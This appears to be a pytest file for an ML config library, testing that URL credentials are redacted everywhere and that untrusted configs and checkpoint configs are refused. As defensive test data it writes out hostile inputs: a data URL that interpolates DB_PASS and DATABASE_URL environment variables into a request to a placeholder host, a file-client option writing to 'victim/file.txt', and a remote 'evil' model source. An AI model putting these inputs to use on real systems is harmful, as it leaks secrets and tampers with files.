    harmless = {'out_suffix', 'interval_exp_name', 'exp_name', 'profile_iters', 'profile_memory', 'timeout', 'direction',
                'recursion_subdir', 'out_file_suffix'}
    place = re.compile('dir|path|file|folder|uri|url|out|cache|kwargs|prefix|ready|where')
    for registry in (HOOKS, RUNNERS, DATASETS, TRANSFORMS, OPTIMIZERS, SAMPLERS):
        for name,cls in registry.module_dict.items():
            if not cls.__module__.startswith('clsnb'): continue
            new = {o for o in accepted_args(cls) or () if place.search(o)}-known-reading-harmless
            assert not new, f'{name}: {new}: add it to clsnb.config.writes, or here'

# ---- Where addresses are shown

def test_no_surface_shows_a_secret(tmp_path, capsys):
    address = 'https://me:hunter2@127.0.0.1:9/pets?token=hunter2&X-Amz-Signature=hunter2'
    cfg = Config.fromstring(f"load_from = '{address}'\ndata = dict(train=dict(data_prefix='{address}'))")
    other = Config.fromstring('load_from = None')
    logger = get_logger(log_file=tmp_path/'a.log')
    logger.warning('%s cannot be read', address)
    for handler in list(logger.handlers):
        if hasattr(handler, 'baseFilename'): handler.close(), logger.removeHandler(handler)
    step = LoadImageFromFile(file_client_args=dict(backend='disk', path_mapping={'data/': address}))
    keys = LoadImageFromFile.__repr__(LoadImageFromFile(file_client_args=dict(backend='disk', key='hunter2', secret='hunter2')))
    shown = [
        (tmp_path/'a.log').read_text(), capsys.readouterr().out, repr(cfg), repr(cfg.data), cfg._repr_html_(),
        repr(cfg.diff(other)), cfg.diff(other)._repr_html_(), repr(cfg.check()), cfg.check()._repr_html_(), repr(step), keys,
        element('a', address, href=address), table_element(['a'], [[address]])]
    for kind in (ConfigError, DataError, CheckpointError): shown += [str(kind(address)), repr(kind(address))]
    for read in (read_bytes, scan_folders, read_checkpoint, FileClient(tries=1).get):
        with pytest.raises((ClsnbError, OSError)) as e: read(address)
        if isinstance(e.value, ClsnbError): shown.append(str(e.value))
    for text in shown: assert 'hunter2' not in text, text
    assert 'hunter2' in cfg.pretty_text # what is written has to be read again

# ---- The command line

commands = dict(
    dir=dict(more="""
_fc = dict(backend='dir', path='x', target_protocol='zip', target_options=dict(fo='victim/file.txt', mode='w'))
data['train'].update(data_prefix='dir://x', file_client_args=_fc)"""),
    cache=dict(data='simplecache::https://127.0.0.1:9/a'), ssh=dict(data='ssh://127.0.0.1/a'),
    leak=dict(data='http://127.0.0.1:9/{{ $DB_PASS }}/{{ $DATABASE_URL }}'), home=dict(data='http://127.0.0.1:9/{{ $HOME }}'))

@pytest.mark.parametrize('form', commands)
def test_commands_refuse_in_one_line(form, monkeypatch):
    for name in ('DB_PASS', 'DATABASE_URL'): monkeypatch.setenv(name, 'hunter2')
    Path('mine.py').write_text(config_text(**commands[form]))
    for verb in ('verify', 'train', 'test', 'check', 'print-config'):
        words = [sys.executable, '-m', 'clsnb', verb, 'mine.py', *(['none.pth'] if verb=='test' else [])]
        if verb in ('test', 'check', 'print-config') and form!='leak': continue
        run = subprocess.run(words, capture_output=True, text=True, timeout=120)
        assert run.returncode==2 and len(run.stderr.splitlines())==1, (verb, run.stderr[-2000:])
        assert '--trust' in run.stderr and 'hunter2' not in run.stdout+run.stderr
        assert not Path('work_dirs').exists()

def test_the_config_of_a_checkpoint_is_not_trusted(tmp_path):
    text = config_text(backbone="dict(type='TIMMBackbone', model_name='hf-hub:evil/x')")
    torch.save(dict(meta=dict(config=text, CLASSES=('a', 'b')), state_dict=dict(a=torch.zeros(1))), tmp_path/'a.pth')
    refused(init_model, tmp_path/'a.pth')
    refused(evaluate_config, tmp_path/'a.pth')
    torch.save(dict(meta=dict(config="x = '{{ $DB_PASS }}'"), state_dict=dict(a=torch.zeros(1))), tmp_path/'b.pth')
    refused(init_model, tmp_path/'b.pth')
